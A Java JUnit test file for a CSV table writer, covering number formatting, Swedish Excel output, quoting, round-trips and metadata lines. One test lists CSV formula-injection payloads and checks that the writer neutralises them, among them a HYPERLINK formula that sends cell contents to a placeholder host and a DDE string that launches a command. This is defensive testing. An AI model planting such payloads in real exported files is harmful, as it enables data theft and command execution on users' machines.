package org.mattstock.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import de.siegmar.fastcsv.reader.CommentStrategy;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.mattstock.table.Library;
import org.mattstock.table.Lineage;
import org.mattstock.table.Table;

class CsvTableWriterTest {
    @TempDir
    Path folder;

    private static Table places() {
        return Table.builder("Places 2022")
                .text("unit")
                .integer("place")
                .decimal("score", 1)
                .row("Höganäs", 1, 71.4563)
                .row("Åre", 2, -0.5)
                .row("Kiruna", null, null)
                .build();
    }

    private static Table text(String cell) {
        return Table.builder("").text("name").text("note").row(cell, "x").build();
    }

    private static List<List<String>> read(String csv) {
        return CsvReader.builder().ofCsvRecord(csv).stream()
                .map(CsvRecord::getFields)
                .toList();
    }

    @Test
    void everyNumberIsWrittenInFullPrecision() {
        assertThat(TableWriter.csv().toText(places())).isEqualTo("""
                        unit,place,score
                        Höganäs,1,71.4563
                        Åre,2,-0.5
                        Kiruna,,
                        """);
    }

    @Test
    void swedishExcelOpensItAtADoubleClick() {
        assertThat(TableWriter.csv(CsvStyle.swedishExcel()).toText(places()))
                .isEqualTo("\ufeffunit;place;score\r\nHöganäs;1;71,4563\r\nÅre;2;-0,5\r\nKiruna;;\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"sv-SE", "ar-EG-u-nu-arab", "tr-TR"})
    void theDefaultLocaleMovesNoCharacter(String tag) {
        String text = TableWriter.csv().toText(places());
        Locale before = Locale.getDefault();
        try {
            Locale.setDefault(Locale.forLanguageTag(tag));

            assertThat(TableWriter.csv().toText(places())).isEqualTo(text);
        } finally {
            Locale.setDefault(before);
        }
    }

    @ParameterizedTest
    @ValueSource(
            doubles = {
                0.1,
                1.0 / 3,
                2e23,
                5.684341886080802E-14,
                1e-300,
                Double.MIN_VALUE,
                Double.MAX_VALUE,
                123_456_789.123_456_7
            })
    void aNumberReadsBackAsTheSameDouble(double value) {
        Table table = Table.builder("").decimal("x", 1).row(value).build();

        assertThat(Double.parseDouble(
                        read(TableWriter.csv().toText(table)).get(1).get(0)))
                .isEqualTo(value);
    }

    @Test
    void aNumberIsTheShortestTextOnEveryJdk() {
        // JDK 17 prints 1.9999999999999998E23 and 5.6843418860808015E-14 here, JDK 19 and later the shorter ones.
        Table table = Table.builder("")
                .decimal("x", 1)
                .row(2e23)
                .row(5.684341886080802E-14)
                .build();

        assertThat(TableWriter.csv().toText(table)).isEqualTo("x\n2.0E23\n5.684341886080802E-14\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://x.example/?\"&A1)",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\uff1d1+1"
            })
    void aTextThatASpreadsheetWouldRunIsMadeInert(String formula) {
        assertThat(read(TableWriter.csv().toText(text(formula))).get(1).get(0)).isEqualTo("'" + formula);
    }

    @Test
    void aHeadingThatASpreadsheetWouldRunIsMadeInert() {
        Table table = Table.builder("").text("=1+1").row("x").build();

        assertThat(TableWriter.csv().toText(table)).isEqualTo("'=1+1\nx\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-5.2", "+3", "-5,2", "-1e5", "-", "Upplands-Bro", "a=b", "Östra Göinge", " =1"})
    void aTextThatDoesNoHarmStays(String harmless) {
        assertThat(read(TableWriter.csv().toText(text(harmless))).get(1).get(0)).isEqualTo(harmless);
    }

    @Test
    void ourOwnWordsStayWhateverTheyBeginWith() {
        Table table = Table.builder("")
                .text("unit")
                .words("against")
                .row("-19.9 to 22.2, 290 values", "-19.9 to 22.2, 290 values")
                .build();

        assertThat(read(TableWriter.csv().toText(table)).get(1))
                .containsExactly("'-19.9 to 22.2, 290 values", "-19.9 to 22.2, 290 values");
    }

    private static final Lineage MADE_OF =
            Lineage.ofLibrary().with("seed", 1).with("attribution", "Källa: \"Kolada\", 2024;\negna");

    @Test
    void whatTheTableWasMadeOfComesBelowTheRows() {
        assertThat(TableWriter.csv().toText(text("y").withLineage(MADE_OF)))
                .isEqualTo("""
                        name,note
                        y,x

                        # library,"Måttstock %s"
                        # seed,"1"
                        # attribution,"Källa: ""Kolada"", 2024; egna"
                        """.formatted(Library.version()));
        assertThat(TableWriter.csv(CsvStyle.swedishExcel()).toText(text("y").withLineage(MADE_OF)))
                .startsWith("\ufeffname;note\r\ny;x\r\n\r\n# library;\"Måttstock ")
                .endsWith("\r\n# attribution;\"Källa: \"\"Kolada\"\", 2024; egna\"\r\n");
        assertThat(TableWriter.csv(CsvStyle.standard().withLineage(CsvStyle.LineageLines.LEFT_OUT))
                        .toText(text("y").withLineage(MADE_OF)))
                .isEqualTo("name,note\ny,x\n");
    }

    /** One with a comment mark sees the rows alone; one without gets rows of two fields after an empty line. */
    @Test
    void otherReadersSurviveWhatTheTableWasMadeOf() {
        String csv = TableWriter.csv().toText(text("#y").withLineage(MADE_OF));
        assertThat(CsvReader.builder().commentStrategy(CommentStrategy.SKIP).ofCsvRecord(csv).stream()
                        .map(CsvRecord::getFields))
                .containsExactly(List.of("name", "note"), List.of("#y", "x"));
        assertThat(read(csv).subList(2, 5))
                .allMatch(fields -> fields.size() == 2 && fields.get(0).startsWith("# "));
    }

    @Test
    void aTableOfOneColumnHasNoSecondFieldBelow() {
        Table table = Table.builder("").integer("n").row(1).build().withLineage(MADE_OF);
        assertThat(read(TableWriter.csv().toText(table))).allMatch(fields -> fields.size() == 1);
    }

    @Test
    void formulasStayWhenAskedFor() {
        TableWriter asIs = TableWriter.csv(CsvStyle.standard().withFormulas(CsvStyle.Formulas.AS_IS));

        assertThat(asIs.toText(text("=1+1"))).isEqualTo("name,note\n=1+1,x\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a,b",
                "say \"hi\"",
                "two\nlines",
                "two\r\nlines",
                "",
                " padded ",
                "#note",
                "'",
                "å\u030a\ud83d\ude00"
            })
    void anyTextSurvivesTheRoundTrip(String cell) {
        assertThat(read(TableWriter.csv().toText(text(cell))).get(1)).containsExactly(cell, "x");
    }

    @Test
    void anEmptyTextIsToldFromAnEmptyCell() {
        Table table = Table.builder("").text("a").text("b").row("", null).build();

        assertThat(TableWriter.csv().toText(table)).isEqualTo("a,b\n\"\",\n");
    }

    @Test
    void aRowWithNothingInItsOnlyCellStaysARow() {
        Table table = Table.builder("")
                .decimal("x", 1)
                .row(1)
                .row((Object) null)
                .row(3)
                .build();

        assertThat(read(TableWriter.csv().toText(table)))
                .containsExactly(List.of("x"), List.of("1.0"), List.of(""), List.of("3.0"));
    }

    @Test
    void theFileHoldsTheTextInUtf8() throws IOException {
        Path file = folder.resolve("places.csv");
        TableWriter writer = TableWriter.csv(CsvStyle.swedishExcel());

        writer.write(places(), file);

        assertThat(Files.readAllBytes(file)).isEqualTo(writer.toText(places()).getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void halfASurrogatePairIsRefusedAndTheOldFileStays() throws IOException {
        Path file = Files.writeString(folder.resolve("places.csv"), "old");

        assertThatExceptionOfType(IOException.class)
                .isThrownBy(() -> TableWriter.csv().write(text("\ud800").withTitle("Names"), file))
                .withMessage("a text of table \"Names\" holds half a surrogate pair");
        assertThat(file).hasContent("old");
    }

    @Test
    void aTargetThatFailsFailsTheWrite() {
        assertThatExceptionOfType(IOException.class)
                .isThrownBy(() -> TableWriter.csv().write(places(), new FailingWriter()))
                .withMessage("disk full");
    }

    @Test
    void aTargetStaysOpen() throws IOException {
        StringBuilder seen = new StringBuilder();
        Appendable target = new Writer() {
            @Override
            public void write(char[] characters, int offset, int length) {
                seen.append(characters, offset, length);
            }

            @Override
            public void flush() {
                seen.append("[flushed]");
            }

            @Override
            public void close() {
                seen.append("[closed]");
            }
        };

        TableWriter.csv().write(text("y"), target);

        assertThat(seen).hasToString("name,note\ny,x\n");
    }

    @ParameterizedTest
    @EnumSource
    void fieldsThatHoldTheDelimiterAreQuoted(CsvStyle.Delimiter delimiter) {
        TableWriter writer = TableWriter.csv(CsvStyle.standard().withDelimiter(delimiter));
        String cell = "a,b;c|d\te";

        String csv = writer.toText(text(cell));

        assertThat(CsvReader.builder().fieldSeparator(csv.charAt(4)).ofCsvRecord(csv).stream()
                        .map(CsvRecord::getFields))
                .containsExactly(List.of("name", "note"), List.of(cell, "x"));
    }

    @Test
    void aDelimiterEqualToTheDecimalMarkIsRefused() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> CsvStyle.swedishExcel().withDelimiter(CsvStyle.Delimiter.COMMA))
                .withMessage("delimiter must differ from the decimal mark, got COMMA");
    }

    private static final class FailingWriter extends Writer {
        @Override
        public void write(char[] characters, int offset, int length) throws IOException {
            throw new IOException("disk full");
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    }
}
